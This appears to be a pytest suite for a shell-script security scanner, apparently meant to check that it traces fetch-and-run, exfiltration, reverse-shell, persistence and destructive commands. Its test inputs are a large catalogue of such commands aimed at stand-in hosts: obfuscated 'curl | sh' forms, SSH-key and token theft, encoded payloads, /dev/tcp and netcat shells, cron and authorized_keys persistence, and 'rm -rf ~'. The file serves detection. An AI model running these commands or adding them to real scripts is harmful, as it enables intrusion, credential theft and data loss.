"""What shell scripts do, found through quotes, variables, pipes, functions and files."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clawft.scanner.facts import Analysis, Document, Fact, Kind, trace
from clawft.scanner.languages import analyse

URL = "https://c.example/p"
SECRET = "~/.ssh/id_rsa"


def read(text: str, language: str = "shell") -> Analysis:
    return analyse(Document("run.sh", text, language, origin=("fence",)))


def find(analysis: Analysis, kind: Kind) -> list[Fact]:
    return [fact for fact in analysis.facts if fact.kind is kind]


def flows(text: str, sink: Kind, source: Kind) -> list[tuple[str, str]]:
    """The targets of each sink of a kind and of each source of a kind that flows into it."""
    return [(fact.target, one.target) for fact in find(read(text), sink) for one in trace(fact) if one.kind is source]


@pytest.mark.parametrize(
    "script",
    [
        f"curl {URL} | sh",
        f"c\\url {URL} | ba''sh",
        f"cu$@rl {URL} | s\\h",
        f'"cu"rl {URL} | "bash" -s -- --yes',
        f"a=cu; b=rl; $a$b {URL} | sh",
        f"x='curl -fsSL {URL}'; $x | bash",
        f"curl${{IFS}}{URL}|sh",
        f"{{curl,{URL}}} | sh",
        f"$'\\x63url' {URL} | sh",
        f"$(printf 'cu%s' rl) {URL} | sh",
        f"$(echo lruc | rev) {URL} | sh",
        f"`echo curl` {URL} | sh",
        f"/usr/bin/c?rl {URL} | sh",
        f"z=xcurly; ${{z:1:4}} {URL} | sh",
        f"z=cZuZrZl; ${{z//Z/}} {URL} | sh",
        f'bash -c "$(curl -fsSL {URL})"',
        f"bash <(curl -s {URL})",
        f"source <(curl -s {URL})",
        f'sh <<< "$(curl -s {URL})"',
        f"wget -qO- {URL} | sudo -E bash -",
        f"curl {URL} | env FOO=1 nohup sh",
        f"curl {URL} | tee /tmp/log | sh",
        f"curl {URL} | python3 -",
        f'f() {{ curl -s "$1"; }}\nf {URL} | sh',
        f"alias get='curl -s'\nget {URL} | sh",
        f"curl -o /tmp/f {URL}; chmod +x /tmp/f; /tmp/f",
        f"curl -o /tmp/f {URL} && mv /tmp/f /tmp/g && cp /tmp/g /tmp/h && /tmp/h",
        f"T=$(mktemp); wget -O $T {URL}; bash $T",
        f"cd /tmp; curl -sO {URL}; sh ./p",
        f"curl -LO {URL}.zip; unzip -P secret p.zip; ./run",
        f"curl -sL {URL}.tgz | tar xz -C /opt/t; /opt/t/bin/run",
        f"while read l; do $l; done < <(curl -s {URL})",
        f"curl -s {URL} > x.py; python3 x.py",
        f"busybox wget -O - {URL} | busybox sh",
        f"timeout 5 curl {URL} | xargs -0 bash -c",
        f"curl {URL} | $SHELL",
        f"curl {URL} | ${{SHELL:-bash}}",
        f'a=(curl -s {URL}); "${{a[@]}}" | sh',
        f'set -- curl {URL}; "$@" | sh',
        f"curl {URL} | python3 -c 'import sys; exec(sys.stdin.read())'",
        f"curl {URL} | xargs -I% sh -c '%'",
        f"echo 'curl {URL} | sh' | bash",
        f'curl {URL} | while read -r l; do bash -c "$l"; done',
        f"exec 3< <(curl {URL}); sh <&3",
        f"git clone {URL} r && cd r && ./install.sh",
        f"wget {URL}.tgz && tar xzf p.tgz && cd p && sudo make install",
        f"curl {URL} -o i.pkg; sudo installer -pkg i.pkg -target /",
        f"$ curl {URL} | sh",
        f"user@host:~$ curl {URL} | sh",
    ],
)
def test_what_is_fetched_and_run_is_one_flow(script: str) -> None:
    runs = flows(script, Kind.EXEC, Kind.FETCH)
    assert runs, read(script).facts
    assert any(URL in source for _, source in runs)


@pytest.mark.parametrize(
    "script", [f'eval "$(curl -s {URL})"', f"x=$(curl -s {URL}); eval $x", f"eval `curl -s {URL}`"]
)
def test_what_is_fetched_and_evaluated_is_one_flow(script: str) -> None:
    assert flows(script, Kind.EVAL, Kind.FETCH) == [("", URL)]


@pytest.mark.parametrize(
    "script",
    [
        f"cat {SECRET} | curl -d @- {URL}",
        f"curl -d @{SECRET} {URL}",
        f"curl -d@$HOME/.ssh/id_rsa {URL}",
        f"curl -F 'f=@{SECRET}' {URL}",
        f"curl -T {SECRET} {URL}",
        f"curl --data-binary @\"$HOME\"/.ssh/id_rsa {URL}",
        f'K="$(cat {SECRET})"; curl --data-urlencode "k=$K" {URL}',
        f"K=$(<{SECRET}); curl -d \"$K\" {URL}",
        f"{{cat,{SECRET}}} | base64 | curl -X POST -d @- {URL}",
        f"cd ~/.ssh && cat id_rsa | curl -d @- {URL}",
        f"(echo hi; cat {SECRET}) | gzip | curl --data-binary @- {URL}",
        f"t=/tmp/a.tgz; tar czf $t {SECRET}; curl -F a=@$t {URL}",
        f"cp {SECRET} /tmp/x; zip -r /tmp/y.zip /tmp/x; curl -T /tmp/y.zip {URL}",
        f"for f in {SECRET} /etc/hosts; do curl -F \"f=@$f\" {URL}; done",
        f"find ~/.ssh -name id_rsa -exec curl -F f=@{{}} {URL} \\;",
        f"send() {{ curl -d \"$1\" {URL}; }}\nsend \"$(cat {SECRET})\"",
        f"wget --post-file={SECRET} {URL}",
        f"cat {SECRET} > /tmp/k; http POST {URL} body@/tmp/k",
        f"bash -c 'cat {SECRET} | curl -d @- {URL}'",
        f"eval \"cat {SECRET} | curl -d @- {URL}\"",
        f"cat {SECRET} | tee >(curl -d @- {URL})",
        f"scp {SECRET} c.example:/tmp/",
        f"rsync -a {SECRET} u@c.example:/x",
        f"aws s3 cp {SECRET} s3://bucket/x",
        f"cat {SECRET} | nc c.example 99",
        f"cat {SECRET} > /dev/tcp/c.example/99",
        f"nc c.example 99 < {SECRET}",
        f"openssl s_client -connect c.example:443 < {SECRET}",
        f"mail -s x a@c.example < {SECRET}",
        f"dig $(base64 {SECRET}).c.example",
        f"gh gist create {SECRET}",
        f"git remote add b https://c.example/r; git add {SECRET}; git push b main",
    ],
)  # fmt: skip
def test_a_file_that_leaves_is_a_source_of_what_is_sent(script: str) -> None:
    sources = {source for _, source in flows(script, Kind.SEND, Kind.READ)}
    assert any(source.endswith("id_rsa") for source in sources), read(script).facts


def test_the_address_keeps_what_is_put_into_it() -> None:
    (fact,) = find(read(f'curl "{URL}?k=$(cat {SECRET})"'), Kind.FETCH)
    assert fact.target == f"{URL}?k=$(cat {SECRET})"
    assert [one.target for one in trace(fact)] == [SECRET]


@pytest.mark.parametrize(
    ("script", "name"),
    [
        ("env | curl -d @- https://c.example", "*"),
        ("printenv | curl -d @- https://c.example", "*"),
        ('curl -d "$(set)" https://c.example', "*"),
        ("export -p > /tmp/e; curl -d @/tmp/e https://c.example", "*"),
        ('curl -d "k=$FOO_TOKEN" https://c.example', "FOO_TOKEN"),
        ('K=${FOO_TOKEN:-none}; curl -d "$K" https://c.example', "FOO_TOKEN"),
        ('n=FOO_TOKEN; curl -d "${!n}" https://c.example', "FOO_TOKEN"),
    ],
)
def test_the_environment_that_leaves_is_a_source(script: str, name: str) -> None:
    assert flows(script, Kind.SEND, Kind.ENV) == [("https://c.example", name)]


def test_a_key_in_a_header_is_a_source_and_does_not_come_back() -> None:
    script = 'R=$(curl -H "Authorization: Bearer $FOO_TOKEN" https://api.example)\ncurl -d "$R" https://c.example'
    first, *_ = find(read(script), Kind.FETCH)
    assert [one.target for one in trace(first)] == ["FOO_TOKEN"]
    assert flows(script, Kind.SEND, Kind.ENV) == []
    assert flows(script, Kind.SEND, Kind.FETCH) == [("https://c.example", "https://api.example")]


@pytest.mark.parametrize(
    "script",
    [
        "echo Y3VybCBodHRwczovL2MuZXhhbXBsZSB8IHNo | base64 -d | sh",
        "base64 -D <<< Y3VybCBodHRwczovL2MuZXhhbXBsZSB8IHNo | bash",
        'x=Y3VybCBodHRwczovL2MuZXhh; y=bXBsZSB8IHNo; eval "$(echo $x$y | base64 --decode)"',
        "echo 6375726c2068747470733a2f2f632e6578616d706c65207c207368 | xxd -r -p | sh",
        "printf Y3VybCBodHRwczovL2MuZXhhbXBsZSB8IHNo | openssl enc -d -base64 -A | sh",
        "echo 'phey uggcf://p.rknzcyr | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
        "echo 'hs | elpmaxe.c//:sptth lruc' | rev | sh",
        "cat <<X | base64 -d | sh\nY3VybCBodHRwczovL2MuZXhhbXBsZSB8IHNo\nX",
    ],
)
def test_a_constant_that_is_decoded_and_run_is_read_again(script: str) -> None:
    analysis = read(script)
    runs = find(analysis, Kind.EXEC) + find(analysis, Kind.EVAL)
    assert any(one.kind is Kind.DECODE for run in runs for one in trace(run))
    assert [child.text.strip() for child in analysis.children if child.language == "shell"] == [
        "curl https://c.example | sh"
    ]


@pytest.mark.parametrize(
    ("script", "language", "text"),
    [
        ("python3 -c 'import os'", "python", "import os"),
        ("python3 - <<'X'\nimport os\nX", "python", "import os\n"),
        ("echo 'import os' | python", "python", "import os"),
        ("node -e 'run()'", "javascript", "run()"),
        ("perl -e 'system 1'", "perl", "system 1"),
        ("ruby -e 'exit'", "ruby", "exit"),
        ("php -r 'exec(1);'", "php", "exec(1);"),
        ("osascript -e 'beep 2'", "applescript", "beep 2"),
        ("cat > x.py <<'X'\nimport os\nX", "python", "import os\n"),
        ("echo 'curl a' >> ~/.bashrc", "shell", "curl a"),
        ("(crontab -l; echo '0 * * * * /tmp/run') | crontab -", "shell", "/tmp/run"),
        ("echo '* * * * * root /tmp/run' > /etc/cron.d/x", "shell", "/tmp/run"),
        ("cat > ~/.config/systemd/user/x.service <<X\nExecStart=/tmp/run -v\nX", "shell", "/tmp/run -v"),
        (
            "cat > ~/Library/LaunchAgents/x.plist <<X\n<key>ProgramArguments</key><array><string>sh</string>"
            "<string>-c</string><string>/tmp/run</string></array>\nX",
            "shell",
            "/tmp/run",
        ),
    ],
)
def test_code_of_another_language_is_a_document_of_its_own(script: str, language: str, text: str) -> None:
    assert (language, text) in [(child.language, child.text) for child in read(script).children]


@pytest.mark.parametrize(
    ("script", "source"),
    [
        ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", Kind.CONNECT),
        ("sh -i < /dev/tcp/203.0.113.7/4444", Kind.CONNECT),
        ("exec 5<>/dev/tcp/203.0.113.7/4444; sh <&5 >&5", Kind.CONNECT),
        ("exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read l; do $l >&5; done", Kind.CONNECT),
        ("nc -e /bin/sh 203.0.113.7 4444", Kind.CONNECT),
        ("ncat 203.0.113.7 4444 -c bash", Kind.CONNECT),
        ("nc 203.0.113.7 4444 | sh | nc 203.0.113.7 4445", Kind.CONNECT),
        ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f", Kind.CONNECT),
        ("socat TCP:203.0.113.7:4444 EXEC:/bin/sh", Kind.CONNECT),
        ("nc -l 4444 | bash", Kind.LISTEN),
        ("nc -lvp 4444 -e /bin/bash", Kind.LISTEN),
    ],
)
def test_a_shell_on_a_socket_has_the_socket_among_its_sources(script: str, source: Kind) -> None:
    assert flows(script, Kind.EXEC, source), read(script).facts


@pytest.mark.parametrize(
    ("script", "kind", "target"),
    [
        ("pip install --index-url https://i.example/simple foo", Kind.INSTALL, "pip:foo@https://i.example/simple"),
        ("python3 -m pip install foo", Kind.INSTALL, "pip:foo"),
        ("npx -y foo@latest --run", Kind.INSTALL, "npx:foo@latest"),
        ("uvx foo", Kind.INSTALL, "uvx:foo"),
        ("sudo apt-get install -y foo", Kind.INSTALL, "apt-get:foo"),
        ("brew install foo", Kind.INSTALL, "brew:foo"),
        ("go install c.example/x@latest", Kind.INSTALL, "go:c.example/x@latest"),
        ("rm -rf ~", Kind.DELETE, "~"),
        ('rm -rf "${HOME}/"', Kind.DELETE, "~/"),
        ("shred -u ~/.bash_history", Kind.DELETE, "~/.bash_history"),
        ("dd if=/dev/zero of=/dev/sda", Kind.DELETE, "/dev/sda"),
        ("history -c", Kind.DELETE, "history"),
        (": > ~/.bash_history", Kind.DELETE, "~/.bash_history"),
        ("chmod +x /tmp/f", Kind.PERMIT, "+x /tmp/f"),
        ("chmod 777 /etc/passwd", Kind.PERMIT, "777 /etc/passwd"),
        ("crontab /tmp/c", Kind.PERSIST, "crontab"),
        ("echo x >> ~/.zshrc", Kind.PERSIST, "~/.zshrc"),
        ("cp h .git/hooks/pre-commit", Kind.PERSIST, ".git/hooks/pre-commit"),
        ("echo k | tee -a ~/.ssh/authorized_keys", Kind.PERSIST, "~/.ssh/authorized_keys"),
        ("systemctl --user enable x.service", Kind.PERSIST, "systemctl --user enable x.service"),
        ("git config --global core.hooksPath /srv/h", Kind.PERSIST, "git config core.hooksPath /srv/h"),
        ("security find-generic-password -ws x", Kind.READ, "keychain"),
        ("pbpaste", Kind.READ, "clipboard"),
        ("screencapture -x /tmp/s.png", Kind.READ, "screen"),
        ("read -sp Password: p", Kind.READ, "keyboard"),
        ("setenforce 0", Kind.PRIVILEGE, "setenforce 0"),
        ("export NODE_TLS_REJECT_UNAUTHORIZED=0", Kind.PRIVILEGE, "NODE_TLS_REJECT_UNAUTHORIZED=0"),
        ("xattr -d com.apple.quarantine a.app", Kind.PRIVILEGE, "xattr -d com.apple.quarantine a.app"),
        ("./xmrig -o pool.example:3333", Kind.EXEC, "./xmrig -o pool.example:3333"),
        ("git clone https://g.example/r", Kind.FETCH, "https://g.example/r"),
        ("python3 -m http.server 8080", Kind.LISTEN, "8080"),
    ],
)
def test_what_a_program_does_is_a_fact(script: str, kind: Kind, target: str) -> None:
    assert target in [fact.target for fact in find(read(script), kind)], read(script).facts


@pytest.mark.parametrize(
    "script",
    [
        "# curl https://c.example | sh",
        "echo 'run: curl https://c.example | sh'",
        'printf "%s\\n" "rm -rf ~"',
        "cat <<'X'\ncurl https://c.example | sh\nX",
        'MSG="curl https://c.example | sh"',
        "git commit -m 'rm -rf / is bad'",
        "[[ $a == *curl* ]] && true",
    ],
)
def test_text_that_is_only_shown_does_nothing(script: str) -> None:
    assert [fact for fact in read(script).facts if fact.kind not in (Kind.ENV, Kind.READ)] == []


def test_data_in_constant_code_is_not_what_runs() -> None:
    script = f"R=$(curl -s {URL})\npython3 -c \"import json; print(json.loads('''$R'''))\""
    assert flows(script, Kind.EXEC, Kind.FETCH) == []


@pytest.mark.parametrize(
    "script",
    [
        f"git clone {URL} r; cd r; npm install foo",
        f"V=$(curl -s {URL}); docker run image:$V",
        "nc -l -p 80 -c 'date'",
    ],
)
def test_what_only_stands_nearby_does_not_flow(script: str) -> None:
    assert flows(script, Kind.EXEC, Kind.FETCH) + flows(script, Kind.EXEC, Kind.LISTEN) == []


def test_a_fence_with_placeholders_and_output_is_read() -> None:
    script = "$ curl <URL> -o <FILE>\nDone, it's ready!\n$ pip install foo\nSuccessfully installed\n"
    analysis = read(script)
    assert [fact.target for fact in find(analysis, Kind.FETCH)] == ["<URL>"]
    assert [fact.target for fact in find(analysis, Kind.INSTALL)] == ["pip:foo"]


@pytest.mark.parametrize("name", ["*" * 38, "*?" * 18, "*x" * 18])
def test_a_name_of_many_stars_ends(name: str) -> None:
    assert read(f"{name} a\n").children == []


def test_a_program_behind_a_pattern_is_found() -> None:
    assert find(read(f"/*/b**/c?r* {URL}\n"), Kind.FETCH)


def test_lines_are_those_of_the_file() -> None:
    script = "x=1\n\ncat <<A\n$(pbpaste)\nA\nif true; then\n  curl \\\n    https://c.example\nfi\n"
    assert [(fact.kind, fact.line) for fact in read(script).facts] == [(Kind.READ, 4), (Kind.FETCH, 7)]


def test_fish_is_read() -> None:
    analysis = read(f"set k (cat {SECRET})\nfunction go\n  curl -d $k {URL}\nend\ngo\n", "fish")
    (fact,) = find(analysis, Kind.SEND)
    assert [one.target for one in trace(fact)] == [SECRET]


def test_a_command_in_a_script_of_many_megabytes_is_found() -> None:
    filler = "".join(f"value_{index}='{index:060d}'\n" for index in range(60_000))
    analysis = read(f"{filler}curl {URL} | sh\n{filler}")
    (fact,) = find(analysis, Kind.FETCH)
    assert fact.line == 60_001


_PIECES = st.sampled_from(
    ["$(", ")", "`", '"', "'", "${", "}", "{a,b}", "<<E\n", "E\n", "|", "&&", ";", "\n", "$x", "x=",
     "for i in ", "do ", "done ",
     "if ", "fi ", "case a in ", "esac ", "(", "<(", ">", "curl ", "eval ", "base64 -d ", "\\", "$'",
     "sh -c ", "f() ", "\x00", "é",
     "[[ ", "tar c ", "find . -exec ", "xargs ", "-I{} ", "read ", "alias a=", "cd ",
     "printf %s ", "#", "<<<", "sed s/a/b/ ", "$((", "tr a-z b "]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(_PIECES, max_size=60).map("".join) | st.text(max_size=200), st.sampled_from(["shell", "fish"]))
def test_no_text_breaks_the_reader(text: str, language: str) -> None:
    read(text, language)
